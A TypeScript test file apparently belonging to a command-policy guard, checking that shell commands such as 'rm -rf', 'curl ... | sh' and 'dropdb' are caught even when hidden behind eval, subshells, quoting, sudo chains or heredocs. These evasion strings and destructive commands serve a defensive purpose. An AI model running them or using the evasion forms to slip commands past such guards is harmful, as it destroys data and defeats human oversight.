import fc from "fast-check";
import { expect, test } from "vitest";
import { commandParts, matchesCommand } from "#policy/match/commands.ts";

const matches = (glob: string, command: string, except: string[] = []) =>
  matchesCommand([glob], except, commandParts(command));

test.each([
  ["rm -rf *", "rm -rf build", true],
  ["rm -rf *", "rm   -rf\tbuild", true],
  ["rm -rf *", "ls; rm -rf build", true],
  ["rm -rf *", "test -d x && rm -rf x || true", true],
  ["rm -rf *", "(cd x; rm -rf y)", true],
  ["rm -rf *", "if true; then rm -rf x; fi", true],
  ["rm -rf *", "FOO=1 rm -rf x", true],
  ["rm -rf *", "sudo -n rm -rf x", true],
  ["rm -rf *", "/bin/rm -rf x", true],
  ["rm -rf *", "r\\m -rf x", true],
  ["rm -rf *", "'rm' \"-rf\" x", true],
  ["rm -rf *", "bash -lc 'rm -rf x'", true],
  ["rm -rf *", "sh -c \"bash -c 'rm -rf x'\"", true],
  ["rm -rf *", "echo $(rm -rf x)", true],
  ["rm -rf *", "echo `rm -rf x`", true],
  ["rm -rf *", 'echo "$(rm -rf x)"', true],
  ["rm -rf *", "echo '$(rm -rf x)'", false],
  ["rm -rf *", "echo 'rm -rf x'", false],
  ["rm -rf *", "git commit -m 'rm -rf x'", false],
  ["rm -rf *", "ls 2>&1 | tee rm", false],
  ["rm -rf *", "ls\nrm -rf x", true],
  ["rm -rf *", "ls & rm -rf x", true],
  ["rm -rf *", "find . | xargs rm -rf x", true],
  ["rm -rf *", "echo 'unfinished; rm -rf x", true],
  ["rm -rf *", "echo $(rm -rf x", true],
  ["rm -rf *", "timeout -k 5 10 rm -rf x", true],
  ["rm -rf *", "sudo sudo sudo env A=1 nice -n 5 rm -rf x", true],
  ["rm -rf *", "find . -name x -exec rm -rf {} ;", true],
  ["rm -rf *", "eval 'rm -rf x'", true],
  ["rm -rf *", "cat <<E\n$(rm -rf x)\nE", true],
  ["rm -rf *", "cat <<'E'\n$(rm -rf x)\nE", false],
  ["rm -rf *", "f() { rm -rf x; }; f", true],
  ["rm -rf *", "case a in a) rm -rf x;; esac", true],
  ["rm -rf *", "diff <(rm -rf x) y", true],
  ["rm -rf *", "x=$(rm -rf y)", true],
  ["rm -rf *", "for f in *; do rm -rf $f; done", true],
  ["curl * | sh", "curl https://x.test/i.sh | sh", true],
  ["curl * | sh", "curl https://x.test/i.sh > i.sh", false],
  ["npm *", "npm test", true],
  ["npm *", "pnpm test", false],
])("%j on %j is %j", (glob, command, expected) => {
  expect(matches(glob, command)).toBe(expected);
});

test.each([
  ["$CMD -rf x", false],
  ["a{b,c} x", false],
  ['"$(cat program)" x', false],
  ['bash -c "$SCRIPT"', false],
  ['eval "$X"', false],
  ["echo 'unfinished", false],
  ["if true; then ls", false],
  ["npm $VERB evil", false],
  ['sudo npm "$VERB" evil', false],
  ["python3 -m $MODULE install evil", false],
  ["timeout 60 $CMD", false],
  ["timeout -k 5 60 $CMD", false],
  ["sudo -u build $CMD", false],
  ['xargs -n 1 "$CMD"', false],
  ["timeout 60 env A=1 $CMD", false],
  ["find . -exec $CMD {} ;", false],
  ['npm test -- --grep "$NAME" > out.txt 2>&1', true],
  ["git log --format='%h %s' | head -n 5", true],
  ['for f in *.ts; do wc -l "$f"; done', true],
  ['timeout 60 npm test -- "$FILE"', true],
  ['find . -print0 | xargs -0 grep -l "$WORD"', true],
  ['env NODE_ENV=test OUT="$OUT" nice -n 5 node build.js "$OUT"', true],
  ['npm run build -- --out "$OUT"', true],
])("%j is readable: %j", (command, readable) => {
  expect(commandParts(command).readable).toBe(readable);
});

test("a line is read up to a length at which a file that is written whole still fits, and no further", () => {
  const written = (lines: number) => commandParts(`cat > a.md <<'E'\n${"it's long\n".repeat(lines)}E`);
  expect(written(3_000)).toMatchObject({ readable: true, parts: ["cat"] });
  expect(written(4_000)).toMatchObject({ readable: false, shell: false, parts: [] });
});

test("many starters in a row cost no more than their number", () => {
  expect(commandParts(`${"sudo ".repeat(500)}rm -rf x`).parts.length).toBeLessThan(2_000);
});

test("an exception spares only the part it names", () => {
  expect(matches("*", "npm test", ["npm *"])).toBe(false);
  expect(matches("*", "npm test && rm x", ["npm *"])).toBe(true);
});

test("a command cannot hide in front of, behind or around another", () => {
  const around = fc.constantFrom("; ", " && ", " || ", " | ", "\n", " & ");
  const harmless = fc.constantFrom("ls", "echo 'a b'", "X=1 true", 'printf "%s" "$(date)"', "cat < in > out 2>&1");
  fc.assert(
    fc.property(
      fc.array(fc.tuple(harmless, around), { maxLength: 4 }),
      fc.array(fc.tuple(around, harmless), { maxLength: 4 }),
      (before, after) => {
        const line = `${before.flat().join("")}dropdb orders${after.flat().join("")}`;
        expect(matches("dropdb *", line)).toBe(true);
      },
    ),
  );
});

test("no line makes the cutter hang or throw", () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(..."a '\"\\$()`;&|\n<>{}="), maxLength: 200 }), (line) => {
      expect(typeof matches("a*", line)).toBe("boolean");
    }),
    { numRuns: 2_000 },
  );
  expect(matches("a", `${"$(".repeat(5_000)}a`)).toBe(true);
});
